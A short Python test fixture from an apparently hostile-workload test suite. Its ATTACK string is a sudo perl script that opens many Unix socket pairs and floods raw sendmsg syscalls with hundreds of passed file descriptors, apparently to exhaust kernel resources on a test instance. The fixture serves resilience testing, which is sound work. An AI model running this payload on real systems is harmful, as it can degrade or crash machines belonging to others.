from __future__ import annotations

from typing import TYPE_CHECKING

from tests.hostile.making import on_an_instance, written

if TYPE_CHECKING:
    from pathlib import Path


ATTACK = r"""
test "$(uname -m)" = x86_64 || exit 0
sudo perl -e '
    use Socket;
    my @keep;
    for (1 .. 40) {
        socketpair(my $one, my $other, AF_UNIX, SOCK_DGRAM, 0) or last;
        push @keep, $one, $other;
        my $many = pack("i*", (fileno($one)) x 250);
        my ($said, $told) = ("x", pack("Q i i", 16 + length($many), 1, 1) . $many);
        my $part = pack("P Q", $said, 1);
        my $message = pack("Q L x4 P Q P Q i x4", 0, 0, $part, 1, $told, length($told), 0);
        syscall(46, fileno($one), $message, 0x40) for 1 .. 10;
    }
    sleep 4;
'
"""


def make(folder: Path) -> Path:
    return written(folder, on_an_instance(ATTACK))
